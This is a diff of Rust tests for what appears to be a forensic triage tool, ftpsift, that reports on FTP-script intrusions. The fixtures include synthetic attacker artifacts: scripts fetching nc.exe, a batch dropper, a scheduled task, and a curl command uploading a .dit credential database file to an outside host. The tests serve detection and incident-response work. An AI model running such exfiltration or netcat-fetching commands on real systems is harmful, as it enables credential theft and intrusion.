@@ -5,7 +5,9 @@ use super::{allowed, cleared, client, dropper, follow_on, persisted, upload};
 use ftpsift::artifact::event::Direction as Way;
 use ftpsift::case::Case;
 use ftpsift::case::playbook::Answer;
-use ftpsift::correlate::sources::ArtifactSource;
+use ftpsift::case::{Source, WrittenBy};
+use ftpsift::correlate::sources::{ArtifactSource, LogSource};
+use ftpsift::report::text::Layout;
 use ftpsift::script::session::Scheme;
 use std::collections::BTreeSet;
 
@@ -180,6 +182,163 @@ fn every_step_of_the_playbooks() {
         known.extend(case.playbooks.iter().map(|step| step.id.clone()));
     }
     assert_eq!(asked, known, "a row for every step");
+}
+
+/// A script and a payload of one day, a log of starts of another.
+fn quiet(log: (i64, i64), from: Option<i64>) -> Scene {
+    let mut scene = Scene::new();
+    scene.script(SERVER, Scheme::Ftp, &["nc.exe"], &[]);
+    scene.case.scripts[0].times.modified = at(0);
+    scene.case.scan.from = from.and_then(at);
+    scene.sources.from = from.and_then(at);
+    let mut read = LogSource::default();
+    read.channel = "Security".to_owned();
+    (read.records, read.command_lines) = (5, 5);
+    (read.from, read.to) = (at(log.0), at(log.1));
+    read.kinds.insert("security-4688".to_owned(), 5);
+    scene.sources.logs.push(read);
+    scene
+}
+
+#[test]
+fn nothing_found_is_said_of_what_was_read_alone() {
+    use Answer::{NotExamined, NothingFound};
+    const DAY: i64 = 86_400;
+    let rows: [(Scene, Answer, &str); 4] = [
+        (
+            quiet((-DAY, DAY), None),
+            NothingFound,
+            "no run of a client was recorded\nwhat was read reaches from 2026-02-28T10:00:00Z to 2026-03-02T10:00:00Z",
+        ),
+        (
+            quiet((DAY, DAY), None),
+            NotExamined,
+            "last written 2026-03-01T10:00:00Z; what was read is of 2026-03-02T10:00:00Z alone",
+        ),
+        (
+            quiet((-DAY, DAY), Some(-60)),
+            NothingFound,
+            "within the bounds asked for (--from 2026-03-01T09:59:00Z); outside of them nothing was examined",
+        ),
+        (
+            quiet((-DAY, DAY), Some(2 * DAY)),
+            NotExamined,
+            "outside of the bounds asked for (--from 2026-03-03T10:00:00Z)",
+        ),
+    ];
+    for (scene, answer, words) in rows {
+        let case = scene.run();
+        says(&case, "1.initial-response.scope", answer, words);
+        says(
+            &case,
+            "2.initial-response.collect",
+            answer,
+            if answer == NothingFound { "no command line" } else { words },
+        );
+        let bounds = case.coverage.iter().find(|row| row.source == "time-bounds");
+        assert_eq!(bounds.and_then(|row| row.from), case.scan.from);
+        let mut text = Vec::new();
+        ftpsift::report::text::write(&case, Layout::default(), &mut text).unwrap();
+        let text = String::from_utf8(text).unwrap();
+        assert_eq!(text.contains("\nbounds    nothing before"), case.scan.from.is_some(), "{text}");
+        assert!(text.contains("EXAMINED\n event-log:Security (5), "), "{text}");
+    }
+}
+
+#[test]
+fn a_script_that_is_no_file_is_contained_by_what_makes_it() {
+    let mut scene = Scene::new();
+    scene.script(SERVER, Scheme::Ftp, &["nc.exe"], &["pay.txt"]);
+    let mut written = scene.case.scripts[0].clone();
+    written.id = "s2".to_owned();
+    written.source = Source::WrittenByScript;
+    written.written_by = Some(WrittenBy { script: "s3".to_owned(), line: 3 });
+    written.sessions[0].id = "s2.1".to_owned();
+    let mut typed = written.clone();
+    (typed.id, typed.source) = ("s4".to_owned(), Source::CommandLine);
+    typed.path = "C:\\Users\\Public\\go.bat (command line)".to_owned();
+    let mut recorded = written.clone();
+    (recorded.id, recorded.source, recorded.written_by) = ("s5".to_owned(), Source::Event, None);
+    recorded.path = "Sysmon.evtx#3".to_owned();
+    let mut writer = scene.case.scripts[0].clone();
+    (writer.id, writer.sha256) = ("s3".to_owned(), "7".repeat(64));
+    writer.path = "C:\\Users\\Public\\go.bat".to_owned();
+    writer.sessions.clear();
+    scene.case.scripts = vec![written, writer, typed, recorded];
+    let case = scene.run();
+    let steps = ["1.containment-actions.quarantine", "2.containment-actions.quarantine"];
+    for text in steps.map(|id| step(&case, id).text.clone()) {
+        let scripts: Vec<&String> = text.iter().filter(|line| line.contains("the script")).collect();
+        assert_eq!(
+            scripts,
+            [
+                &format!(
+                    "quarantine the script C:\\Users\\Public\\go.bat, SHA-256 {}, which makes {SCRIPT}",
+                    "7".repeat(64)
+                ),
+                "no file of the evidence holds the script Sysmon.evtx#3: a record of the host does",
+            ]
+        );
+    }
+    says(&case, "1.artifact-discovery.analysis", Answer::Answered, "nc.exe");
+    assert!(
+        !step(&case, "1.artifact-discovery.analysis").text.join("\n").contains("pay.txt"),
+        "it was sent, not fetched"
+    );
+}
+
+#[test]
+fn answers_agree_with_the_runs_of_the_report() {
+    // The start of the client is in no record: its child names it.
+    let mut scene = Scene::new();
+    let mut child = scene.start(30, 13, CMD, "cmd /c calc", (12, FTP)).events.pop().unwrap();
+    let parent = child.fact.process.as_mut().unwrap().parent.as_mut().unwrap();
+    parent.command_line = Some("ftp -s:f.txt".to_owned());
+    scene.events.push(child);
+    let case = scene.run();
+    assert_eq!(case.runs[0].when().as_deref(), Some("no later than 2026-03-01T10:00:30Z"));
+    says(
+        &case,
+        "1.process-lineage.parent",
+        Answer::Answered,
+        "r1: command line ftp -s:f.txt; no record names its parent",
+    );
+    says(
+        &case,
+        "1.containment-actions.isolate",
+        Answer::Answered,
+        "r1: no record shows that it ended; look for the process 12",
+    );
+    says(&case, "2.initial-response.context", Answer::Answered, "no later than 2026-03-01T10:00:30Z");
+    // Letters of another client are not those of ftp.
+    let mut scene = Scene::new();
+    let curl = "C:\\Windows\\System32\\curl.exe";
+    scene.start(12, 12, curl, "curl -T C:\\a.dit ftp://u:p@203.0.113.10/in/", (11, CMD));
+    let case = scene.run();
+    let said = step(&case, "2.command-line-semantics.switches").text.join("\n");
+    assert!(said.contains("203.0.113.10 is the host") && !said.contains("-n ") && !said.contains("-i "), "{said}");
+    // What was read of the memories of programs is named.
+    let mut scene = Scene::new();
+    scene.script(SERVER, Scheme::Ftp, &["nc.exe"], &[]);
+    scene
+        .sources
+        .artifacts
+        .insert("prefetch".to_owned(), ArtifactSource { examined: true, records: 1, ..ArtifactSource::default() });
+    let case = scene.run();
+    says(
+        &case,
+        "1.correlation-follow-on.execution",
+        Answer::NotExamined,
+        "these were read, and show none: prefetch (1)",
+    );
+    // A task that is off starts nothing.
+    let mut off = starts("scheduled-task", "ftp -s:C:\\Users\\Public\\f.txt");
+    off.starts.as_mut().unwrap().disabled = true;
+    let case = persisted(off).run();
+    says(&case, "2.file-path-analysis.persistence", Answer::Answered, "scheduled-task Updater (disabled) starts");
+    let mut text = Vec::new();
+    ftpsift::report::text::write(&case, Layout::default(), &mut text).unwrap();
+    assert!(String::from_utf8(text).unwrap().contains("scheduled-task Updater (disabled"));
 }
 
 /// What is claimed, in words that can be compared: states of files, techniques with what they rest on.
